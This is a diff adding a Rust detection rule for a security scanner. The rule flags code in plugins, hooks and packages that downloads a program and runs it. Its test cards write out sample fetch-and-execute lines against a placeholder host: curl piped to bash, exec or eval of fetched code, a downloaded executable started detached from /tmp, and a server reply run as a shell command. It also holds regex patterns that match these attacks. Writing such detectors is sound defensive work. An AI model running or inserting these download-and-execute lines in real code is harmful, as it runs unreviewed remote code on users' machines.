@@ -1,0 +1,337 @@
+//! source-download-and-execute: a program is fetched and run.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use crate::{FactSink, Rule, RuleMeta};
+use capdex_evidence::document::Document;
+use capdex_evidence::source::{Argument, Call, Origins};
+use capdex_evidence::subject::Subject;
+use capdex_model::fact::{Confidence, Place, Severity};
+
+use super::source_calls::{SourceFile, report_calls, source_files, weighed};
+use capdex_evidence::source::sinks::{evaluates, named, runs_shell, spawns, starts_program, text_of};
+
+/// See the file's first line.
+pub(super) struct SourceDownloadAndExecute;
+
+static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("the card is valid"));
+
+const CARD: &str = r##"
+id = "source-download-and-execute"
+version = 3
+title = "A program is downloaded and run"
+why = "What is fetched at run time was in no review and can change any day."
+fix = "Ship the program or install it as a dependency with a digest."
+cannot_see = "Downloads by libraries that are not known; what a fetched file is for."
+severity = "high"
+confidence = "high"
+kinds = ["skill", "mcp_server", "hook", "plugin", "package"]
+lifecycle = "stable"
+cites = ["CWE-494", "SAFE-T1203", "mcp-scan:W012@C"]
+[codes]
+spiderrating = ["TS-E002", "TS-E012", "TS-E013"]
+agentscore = ["command_injection"]
+saferskills = ["SS-HOOKS-RCE-CURL-PIPE-01"]
+[[examples.fires]]
+note = "A pipe into a shell."
+[examples.fires.files]
+"setup.js" = '''
+import { execSync } from "child_process";
+execSync("curl -s https://files.test/i.sh | bash");'''
+[[examples.fires]]
+note = "An answer is evaluated."
+[examples.fires.files]
+"x.py" = '''
+import requests
+code = requests.get("https://files.test/a.py").text
+exec(code)
+'''
+[[examples.fires]]
+note = "An answer is handed to eval."
+[examples.fires.files]
+"a.js" = 'fetch("https://files.test/a.js").then((r) => r.text()).then(eval);'
+[[examples.fires]]
+note = "An answer is made a function, in the handler of an error."
+[examples.fires.files]
+"a.js" = '''
+const axios = require("axios");
+axios.get("https://files.test/a").then((res) => { const run = new Function.constructor("require", res.data.code); run(require); });'''
+[[examples.fires]]
+note = "An answer that comes in pieces."
+[examples.fires.files]
+"a.js" = '''
+const https = require("https");
+https.get("https://files.test/a", (res) => { let code = ""; res.on("data", (part) => { code += part; }); res.on("end", () => eval(code)); });'''
+[[examples.fires]]
+note = "An answer that a promise hands on."
+[examples.fires.files]
+"a.js" = '''
+const https = require("https");
+const load = () => new Promise((resolve) => https.get("https://files.test/a", (res) => { let all = ""; res.on("data", (d) => (all += d)); res.on("end", () => resolve(all)); }));
+load().then((text) => { new Function(text)(); });'''
+[[examples.fires]]
+note = "An answer that is read."
+[examples.fires.files]
+"x.py" = '''
+from urllib.request import urlopen
+exec(urlopen("https://files.test/a").read())
+'''
+[[examples.fires]]
+note = "A program is written to a file and started."
+[examples.fires.files]
+"x.py" = '''
+import os, subprocess, tempfile, urllib.request
+path = os.path.join(tempfile.gettempdir(), "update.exe")
+urllib.request.urlretrieve("https://files.test/update.exe", path)
+subprocess.Popen([path])
+'''
+[[examples.fires]]
+note = "What a server answers is a command."
+[examples.fires.files]
+"x.py" = '''
+import requests, subprocess
+task = requests.get("https://files.test/next").text
+subprocess.run(task, shell=True)
+'''
+[[examples.fires]]
+note = "An answer is the input of a shell."
+[examples.fires.files]
+"x.py" = '''
+import urllib.request, subprocess
+text = urllib.request.urlopen("https://files.test/i.sh").read()
+subprocess.run(["bash"], input=text)
+'''
+[[examples.fires]]
+note = "A program under the temporary files is cut loose."
+[examples.fires.files]
+"x.mjs" = '''
+import { writeFileSync, chmodSync } from "fs"; import { spawn } from "child_process";
+const answer = await fetch("https://files.test/part");
+writeFileSync("/tmp/part", Buffer.from(await answer.arrayBuffer())); chmodSync("/tmp/part", 0o755);
+spawn("/tmp/part", [], { detached: true }).unref();'''
+[[examples.fires]]
+note = "A module is fetched and loaded."
+[examples.fires.files]
+"x.mjs" = '''
+import fs from "node:fs";
+const answer = await fetch("https://files.test/rules.mjs");
+fs.writeFileSync("./rules.mjs", await answer.text());
+const rules = await import("./rules.mjs");'''
+[[examples.fires]]
+note = "A package from an address of its own."
+[examples.fires.files]
+"x.py" = '''
+import subprocess, sys
+subprocess.check_call([sys.executable, "-m", "pip", "install", "https://files.test/kit-1.0.tar.gz"])
+'''
+[[examples.silent]]
+note = "A version that is asked for is part of a command."
+[examples.silent.files]
+"a.js" = '''
+const { execFileSync } = require("child_process");
+const version = await (await fetch("https://files.test/latest")).text();
+execFileSync("npm", ["view", `kit@${version}`]);'''
+[[examples.silent]]
+note = "A download that is kept."
+[examples.silent.files]
+"x.py" = '''
+import requests
+open("a.json", "w").write(requests.get("https://files.test/a.json").text)
+'''
+"##;
+
+impl Rule for SourceDownloadAndExecute {
+    fn meta(&self) -> &RuleMeta {
+        &META
+    }
+
+    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
+        report_calls(subject, facts, judgement);
+        for file in source_files(subject) {
+            let opened =
+                subject.evidence.documents.get(file.path).and_then(|document| opened_with_password(&file, document));
+            if let Some((place, text)) = opened {
+                let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
+                facts.found_as(severity, confidence, place, &text);
+            }
+        }
+    }
+}
+
+static PIPED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)\b(?:curl|wget|iwr|invoke-webrequest|irm)\b(?u:[^|;\n]){0,300}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:curl|wget|iwr|irm|invoke-webrequest)\b(?u:[^|\n]){0,300}\|\s*(?:python3?|node|iex|perl)\b|\b(?:curl|wget)\b(?u:[^\n]){0,300}(?:&&|;)\s*(?:chmod \+x|(?:ba)?sh )|\biex\b(?u:[^\n]){0,40}(?:downloadstring|irm|iwr)")
+        .expect("the pattern is fixed and valid")
+});
+
+/// Installers of well-known tools from their makers' own addresses.
+const INSTALLERS: [&str; 9] = [
+    "https://astral.sh/uv",
+    "https://sh.rustup.rs",
+    "https://bun.sh/install",
+    "https://deno.land/install",
+    "https://get.docker.com",
+    "https://raw.githubusercontent.com/nvm-sh",
+    "https://get.pnpm.io",
+    "https://raw.githubusercontent.com/Homebrew",
+    "https://install.python-poetry.org",
+];
+
+fn judgement(file: &SourceFile<'_>, call: &Call) -> Option<(Severity, Confidence)> {
+    let mut texts = call.arguments.iter().filter_map(text_of).filter(|_| starts_program(call));
+    if let Some(piped) = texts.find(|text| PIPED.is_match(text)) {
+        let known = INSTALLERS.iter().any(|address| piped.contains(address));
+        return Some(if known { (Severity::Low, Confidence::Medium) } else { (Severity::High, Confidence::High) });
+    }
+    if let Some(judged) = starts_fetched_file(file, call) {
+        return Some(judged);
+    }
+    if runs_answer(call) || installs_archive(call) || loads_fetched(call) {
+        return Some((Severity::High, Confidence::Medium));
+    }
+    if evaluates(call) && call.flows.arguments().any(Origins::ANSWER) {
+        return Some((Severity::High, Confidence::High));
+    }
+    let fetched = |argument: &Argument| match argument {
+        Argument::Result(callee) => is_fetch(callee),
+        Argument::Name(name) => {
+            is_fetch(name) && (name.ends_with(".text") || name.ends_with(".content") || name.ends_with(".data"))
+        }
+        _ => false,
+    };
+    (evaluates(call) && call.arguments.iter().any(fetched)).then_some((Severity::High, Confidence::High))
+}
+
+/// What a server answers is the command, the program of an interpreter, or its input. A command that an answer is only a
+/// part of is not meant.
+fn runs_answer(call: &Call) -> bool {
+    let first = call.arguments.first();
+    let whole = matches!(first, Some(Argument::Name(_) | Argument::Result(_) | Argument::Other));
+    let answered = |origins: Origins| origins.any(Origins::ANSWER) && !origins.any(Origins::COMPOSED);
+    if runs_shell(call) && whole && answered(call.flows.first) {
+        return true;
+    }
+    let words = first.and_then(text_of).unwrap_or_default();
+    let program = words.split_whitespace().next().unwrap_or_default();
+    let interprets = INTERPRETERS.contains(&program.rsplit('/').next().unwrap_or_default());
+    let handed = matches!(words.split_whitespace().nth(1), Some("-c" | "-e")) && words.ends_with("{}");
+    spawns(call)
+        && ((handed && call.flows.first.any(Origins::ANSWER))
+            || (interprets && !words.contains("{}") && call.callee.starts_with("subprocess.") && fed(call)))
+}
+
+const INTERPRETERS: [&str; 7] = ["bash", "sh", "zsh", "python", "python3", "node", "perl"];
+
+/// A module is loaded from a file to which something from the network was just written.
+fn loads_fetched(call: &Call) -> bool {
+    let loads = matches!(
+        call.callee.as_str(),
+        "import" | "runpy.run_path" | "importlib.util.spec_from_file_location" | "require"
+    );
+    loads && call.flows.arguments().any(Origins::FETCHED_FILE)
+}
+
+/// Whether an answer is the input of a program.
+fn fed(call: &Call) -> bool {
+    call.flows.rest.any(Origins::ANSWER) && call.text.contains("input=")
+}
+
+/// A package is installed from an archive at an address that no index vouches for.
+fn installs_archive(call: &Call) -> bool {
+    static ARCHIVE: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i-u)\b(?:pip3?|npm|pnpm|yarn|uv)\s+(?:pip\s+)?(?:install|add|i)\b(?u:[^\n]){0,80}\shttps?://(?:[\w-]+\.)*?(?P<host>[\w-]+\.[a-z]{2,})/(?u:[^\s]){0,200}\.(?:tar\.gz|tgz|zip|whl)\b")
+            .expect("the pattern is fixed and valid")
+    });
+    starts_program(call)
+        && call.arguments.iter().filter_map(text_of).filter_map(|text| ARCHIVE.captures(text)).any(|found| {
+            let host = found.name("host").map_or("", |host| host.as_str());
+            !KNOWN_ARCHIVES.is_match(host)
+        })
+}
+
+/// Hosts whose archives are packages of their own name.
+static KNOWN_ARCHIVES: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)^(?:github\.com|githubusercontent\.com|gitlab\.com|pypi\.org|pythonhosted\.org|npmjs\.org|pytorch\.org|huggingface\.co|nvidia\.com|googleapis\.com|pyg\.org|codeberg\.org)$")
+        .expect("the pattern is fixed and valid")
+});
+
+/// An archive is opened with a password that stands in the program, in a file that fetches and starts something.
+fn opened_with_password(file: &SourceFile<'_>, document: &Document) -> Option<(Place, String)> {
+    static OPENED: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"(?i-u)\b(?:extractall|extract)\((?u:[^)\n]){0,120}\bpwd\s*=\s*b?["'](?u:[^"'\n]){2,40}["']|\.setpassword\(\s*b?["']|SevenZipFile\((?u:[^)\n]){0,120}\bpassword\s*=\s*["']|\bunzip\s+(?:-\w+\s+){0,3}-P\s*\w"#)
+            .expect("the pattern is fixed and valid")
+    });
+    let starts = file.view.calls.iter().any(|call| starts_program(call) || call.callee == "os.startfile");
+    let fetches = file.view.calls.iter().any(|call| is_fetch(&call.callee) || call.callee.ends_with("urlretrieve"));
+    let found =
+        OPENED.find(&document.text).filter(|found| starts && fetches && !found.as_str().contains("infected"))?;
+    Some((document.place(found.start()), found.as_str().to_owned()))
+}
+
+/// A file that was just fetched is started. Installers of prebuilt parts do so too: it is worth less unless the file is
+/// named as a program for Windows, which no package manager's prebuilt part is fetched as.
+fn starts_fetched_file(file: &SourceFile<'_>, call: &Call) -> Option<(Severity, Confidence)> {
+    let starts = spawns(call)
+        || matches!(call.callee.as_str(), "os.startfile" | "os.system" | "os.popen")
+        || call.callee.starts_with("os.exec")
+        || call.callee.starts_with("os.spawn");
+    if !starts || !call.flows.first.any(Origins::FETCHED_FILE) {
+        return None;
+    }
+    let program = call.callee == "os.startfile"
+        || call.arguments.iter().filter_map(text_of).any(|text| {
+            let lower = text.to_ascii_lowercase();
+            [".exe", ".scr", ".bat", ".vbs", ".ps1"].iter().any(|end| lower.trim_end_matches(['"', ' ']).ends_with(end))
+        });
+    let severity =
+        if program || is_furtive(call) || comes_from_a_stranger(file) { Severity::High } else { Severity::Medium };
+    Some((severity, Confidence::Medium))
+}
+
+/// Whether a file names addresses of archives or programs alone that nobody publishes at.
+fn comes_from_a_stranger(file: &SourceFile<'_>) -> bool {
+    static HOST: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i-u)https?://(?:[\w-]+\.)*?(?P<host>[\w-]+\.[a-z]{2,})(?:[:/]|$)")
+            .expect("the pattern is fixed and valid")
+    });
+    let texts = file.view.calls.iter().flat_map(|call| &call.arguments).filter_map(text_of);
+    let hosts: Vec<&str> = texts
+        .flat_map(|text| HOST.captures_iter(text).take(20))
+        .filter_map(|found| found.name("host").map(|host| host.as_str()))
+        .take(200)
+        .collect();
+    !hosts.is_empty() && !hosts.iter().any(|host| KNOWN_ARCHIVES.is_match(host))
+}
+
+/// Whether what is started is cut loose from its parent, shows no window, lies hidden or among the temporary files, or is
+/// a script that an interpreter is given.
+fn is_furtive(call: &Call) -> bool {
+    let loose = ["detached", "start_new_session", "creationflags", "windowsHide", "preexec_fn"];
+    let texts = || call.arguments.iter().filter_map(text_of).map(str::trim);
+    let script = || {
+        texts().next().is_some_and(|text| {
+            let program = text.split_whitespace().next().unwrap_or_default();
+            INTERPRETERS.contains(&program.rsplit('/').next().unwrap_or_default())
+        })
+    };
+    loose.iter().any(|name| {
+        named(call, name).is_some_and(|value| !matches!(value, "false" | "False"))
+            || call.text.contains(&format!("{name}="))
+    }) || texts().any(|text| text.starts_with("/tmp/") || text.contains("/.") || text.contains("AppData"))
+        || script()
+}
+
+fn is_fetch(callee: &str) -> bool {
+    let start = [
+        "requests.get",
+        "httpx.get",
+        "urllib.request.urlopen",
+        "fetch",
+        "axios.get",
+        "got",
+        "node-fetch",
+        "urllib2.urlopen",
+    ];
+    start.iter().any(|name| callee == *name || callee.strip_prefix(name).is_some_and(|rest| rest.starts_with('.')))
+}
